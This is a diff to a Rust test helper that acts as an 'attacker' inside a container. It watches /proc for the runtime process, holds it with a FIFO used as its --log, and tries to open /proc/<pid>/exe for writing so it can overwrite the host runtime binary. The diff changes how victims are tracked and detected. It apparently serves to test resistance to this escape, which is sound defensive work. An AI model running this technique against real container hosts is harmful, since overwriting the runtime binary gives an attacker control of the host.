@@ -3,8 +3,8 @@
 //! there before it runs the user's command), grabs `/proc/<pid>/exe`, tries
 //! to open it for writing at once and again, through the kept `O_PATH`
 //! descriptor and `/proc/self/fd/N`, after the process has exited (when a
-//! host binary would no longer be busy). A process whose command line names
-//! FIFO is held up by it (the runtime opening FIFO as its `--log` blocks
+//! host binary would no longer be busy). A process run as `/proc/self/exe ...
+//! --log FIFO` is held up by FIFO (the runtime opening FIFO as its `--log` blocks
 //! until a reader comes), so that one is always caught: the attacker opens
 //! FIFO for reading only once it holds that process's executable. It stops
 //! when the file STOP exists.
@@ -80,16 +80,21 @@ fn pids() -> Vec<i32> {
         .collect()
 }
 
-fn watch(pid: i32, victims: &mut BTreeMap<i32, Victim>, me: i32) -> bool {
-    if pid == me || victims.contains_key(&pid) {
-        return false;
+/// Looks at `pid` again: a process that has exec'd since (its command line
+/// changed) is a new victim.
+fn watch(pid: i32, victims: &mut BTreeMap<(i32, String), Victim>, me: i32) {
+    if pid == me {
+        return;
+    }
+    let cmdline = fs::read(format!("/proc/{pid}/cmdline"))
+        .map(|b| String::from_utf8_lossy(&b).replace('\0', " "))
+        .unwrap_or_default();
+    if cmdline.is_empty() || victims.contains_key(&(pid, cmdline.clone())) {
+        return;
     }
     let exe_path = format!("/proc/{pid}/exe");
     let exe = fs::read_link(&exe_path)
         .map(|p| p.to_string_lossy().into_owned())
-        .unwrap_or_default();
-    let cmdline = fs::read(format!("/proc/{pid}/cmdline"))
-        .map(|b| String::from_utf8_lossy(&b).replace('\0', " "))
         .unwrap_or_default();
     let (path_fd, path_errno) =
         match rustix::fs::open(&exe_path, OFlags::PATH | OFlags::CLOEXEC, Mode::empty()) {
@@ -99,7 +104,7 @@ fn watch(pid: i32, victims: &mut BTreeMap<i32, Victim>, me: i32) -> bool {
     let (open_write_errno, write_errno) = try_write(&exe_path);
     let wrote = open_write_errno.is_none() && write_errno.is_none();
     victims.insert(
-        pid,
+        (pid, cmdline.clone()),
         Victim {
             exe,
             cmdline,
@@ -112,13 +117,12 @@ fn watch(pid: i32, victims: &mut BTreeMap<i32, Victim>, me: i32) -> bool {
             retried_after_exit: false,
         },
     );
-    true
 }
 
 /// Retries the write through `/proc/self/fd/N` for every caught process
 /// that has exited since.
-fn retry_exited(victims: &mut BTreeMap<i32, Victim>, force: bool) {
-    for (pid, v) in victims.iter_mut() {
+fn retry_exited(victims: &mut BTreeMap<(i32, String), Victim>, force: bool) {
+    for ((pid, _), v) in victims.iter_mut() {
         if v.retried_after_exit || (!force && Path::new(&format!("/proc/{pid}")).exists()) {
             continue;
         }
@@ -154,7 +158,11 @@ pub fn overwrite_exe(fifo: &str, stop: &str) -> Outcome {
         for pid in pids() {
             watch(pid, &mut victims, me);
         }
-        let held = victims.values().any(|v| v.cmdline.contains(fifo));
+        // The runtime is held once it runs as the container's command
+        // (argv[0] /proc/self/exe) and the attacker has tried its exe.
+        let held = victims
+            .values()
+            .any(|v| v.cmdline.starts_with("/proc/self/exe") && v.cmdline.contains(fifo));
         if held && reader.is_none() {
             reader = rustix::fs::open(
                 fifo,
@@ -174,7 +182,7 @@ pub fn overwrite_exe(fifo: &str, stop: &str) -> Outcome {
         rounds += 1;
         std::thread::sleep(Duration::from_micros(200));
     }
-    let seen: Vec<Value> = victims.iter().map(|(p, v)| v.to_json(*p)).collect();
+    let seen: Vec<Value> = victims.iter().map(|((p, _), v)| v.to_json(*p)).collect();
     let writes_ok = victims.values().filter(|v| v.wrote).count();
     let mut out = serde_json::Map::new();
     out.insert("seen".into(), Value::Array(seen));
